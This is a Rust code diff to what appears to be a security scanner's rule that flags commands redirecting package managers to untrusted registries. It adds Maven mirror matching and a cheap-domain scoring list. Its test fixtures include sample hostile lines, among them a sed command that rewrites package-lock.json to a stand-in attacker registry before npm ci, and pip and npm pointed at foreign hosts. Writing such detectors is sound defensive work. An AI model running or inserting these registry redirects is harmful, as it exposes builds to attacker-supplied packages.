@@ -6,8 +6,10 @@ use super::packages::{self, Registry};
 use super::signals;
 use crate::finding::{Category, Severity};
 use crate::indicator::extract::urls;
+use crate::indicator::host::Host;
 use crate::indicator::reputation::{Reputation, classify};
 use crate::indicator::scheme::Scheme;
+use crate::indicator::url::Url;
 use crate::layers::rule_engine::reading::{Hit, Reading};
 use crate::layers::rule_engine::rule::{Rule, When};
 use crate::layers::rule_engine::signal::Signal;
@@ -40,13 +42,13 @@ static INDEX_MOVED: Signal = Signal::command(
         "uv_index", "goproxy", "gem sources", "--trusted-host", "find-links",
         "npm_config_registry", "index_url", "-i http", "index =", "npmregistryserver",
         "sparse+http", "[[source]]", "tool.poetry.source", "[[tool.uv.index]]", "replace-with",
-        "nuget add", "maven {", "registry.npmjs.org", "pypi.org", "composer config", "--add channels",
+        "nuget add", "maven {", "registry.npmjs.org", "pypi.org", "composer config", "--add channels", "mirrorof",
     ],
     r#"(?x)
       --(?:extra-)?index-url[=\s]+["']?\w+://[^\s"'\x60]+ | \b(?:npm|yarn|pnpm|bun|pip[\d.]*|uv)\b[^\n]*\s--registry[=\s]+["']?\w+://[^\s"'\x60]+ | \b(?:npm|yarn|pnpm)\s+config\s+set\s+["']?(?:@[\w-]+:)?(?:npmRegistryServer|registry)["']?[=\s]+["']?\w+://[^\s"'\x60]+ | ^(?:@[\w-]+:)?registry\s*=\s*["']?\w+://[^\s"']+
     | \b(?:PIP_(?:EXTRA_)?INDEX_URL|UV_(?:EXTRA_|DEFAULT_)?INDEX(?:_URL)?|npm_config_registry|GOPROXY)\s*=\s*["']?\w+://[^\s"',]+ | \bpip[\d.]*\s+config\s+set\s+\S*index-url\s+["']?\w+://[^\s"']+ | ^(?:extra-)?index-url\s*=\s*\w+://\S+ | ^\s*npmRegistryServer["']?\s*[:=]\s*["']?\w+://[^\s"']+ | ^\s*(?:index|registry)\s*=\s*["']sparse\+\w+://[^\s"']+
     | \[\[(?:source|tool\.poetry\.source|tool\.uv\.index)\]\][^\[]{0,120}?url\s*=\s*["']\w+://[^\s"']+ | \bnuget\s+add\s+source\s+\w+://\S+ | \bmaven\s*\{[^}]{0,40}?\w+://[^\s"')}]+ | \bcomposer\s+config\s+[^\n]{0,40}\w+://\S+ | \bconda\s+config\s+--add\s+channels\s+\w+://\S+
-    | \bsed\b[^\n]*(?:registry\.npmjs\.org|pypi\.org)[^\n]*?\w+://[^\s"'\x23|,]+ | \bgem\s+sources\s+(?:-a|--add)\s+\w+://\S+ | --trusted-host[=\s]+[\w.-]+ | \bpip[\d.]*\s+install\b[^\n]*\s(?:-i|--find-links|-f)[=\s]+["']?https?://[^\s"'\x60]+"#,
+    | <mirrorOf>[^<\n]{0,40}</mirrorOf>(?:\s*<\w+>[^<\n]{0,80}</\w+>){0,3}?\s*<url>\w+://[^<\s]+ | \bsed\b[^\n]*(?:registry\.npmjs\.org|pypi\.org)[^\n]*?\w+://[^\s"'\x23|,]+ | \bgem\s+sources\s+(?:-a|--add)\s+\w+://\S+ | --trusted-host[=\s]+[\w.-]+ | \bpip[\d.]*\s+install\b[^\n]*\s(?:-i|--find-links|-f)[=\s]+["']?https?://[^\s"'\x60]+"#,
 );
 
 static FROM_ADDRESS: Signal = Signal::command(
@@ -120,6 +122,8 @@ pub(super) static RULES: &[Rule] = &[
         when: When::Any(&[&INDEX_MOVED]),
         guard: Some(foreign_registry),
         hits: &[
+            "```xml\n<mirror><id>m</id><mirrorOf>*</mirrorOf><url>http://maven.fast-agent.top/</url></mirror>\n```\n",
+            "```bash\nsed -i 's#https://registry.npmjs.org/#https://npm.fast-agent.top/#g' package-lock.json && npm ci\n```\n",
             "```bash\npip install --index-url http://pkgs.fast-agent.top/simple tool\n```\n",
             "```bash\nnpm config set registry http://45.61.136.85:4873\n```\n",
             "@.npmrc\nregistry=http://npm.fast-agent.top/\n",
@@ -315,7 +319,7 @@ fn foreign_registry(reading: &Reading<'_>, hit: &Hit) -> u32 {
     if text.starts_with("--trusted-host") {
         return if urls(line).next().is_some() { 0 } else { 40 };
     }
-    let percent = |(_, url): (Span, crate::indicator::url::Url<'_>)| match classify(&url) {
+    let percent = |(_, url): (Span, Url<'_>)| match classify(&url) {
         Reputation::Vendor | Reputation::PackageRegistry | Reputation::LocalAddress => 0,
         Reputation::Placeholder
         | Reputation::CodeHost
@@ -324,7 +328,7 @@ fn foreign_registry(reading: &Reading<'_>, hit: &Hit) -> u32 {
         Reputation::Unknown | Reputation::FreeHosting
             if url.scheme() != Scheme::Http && !is_unguarded(reading, hit) =>
         {
-            50
+            if is_cheap(&url) || line.contains("lock") { 85 } else { 50 }
         }
         Reputation::Unknown
         | Reputation::FreeHosting
@@ -337,7 +341,20 @@ fn foreign_registry(reading: &Reading<'_>, hit: &Hit) -> u32 {
         | Reputation::Punycode
         | Reputation::Lookalike => 100,
     };
-    urls(text).map(percent).max().unwrap_or(0)
+    // What stands in place of an official address begins with the last one of the command.
+    let place = text.rmatch_indices("http").next().filter(|_| text.starts_with("sed"));
+    let said = place.and_then(|(at, _)| text.get(at..)).unwrap_or(text);
+    urls(said).map(percent).max().unwrap_or(0)
+}
+
+/// Whether a name ends as those do that cost next to nothing, which no employer's registry does.
+fn is_cheap(url: &Url<'_>) -> bool {
+    const ENDS: &[&str] = &[
+        ".top", ".xyz", ".click", ".site", ".icu", ".buzz", ".cyou", ".pw", ".live", ".shop",
+        ".cc", ".tk", ".ml", ".ga", ".cf", ".gq", ".rest", ".quest", ".sbs", ".lol", ".online",
+        ".fun", ".space", ".website", ".monster", ".biz", ".info",
+    ];
+    matches!(url.host(), Host::Name(name) if ENDS.iter().any(|end| name.ends_with(end)))
 }
 
 fn is_foreign(reading: &Reading<'_>, hit: &Hit) -> u32 {
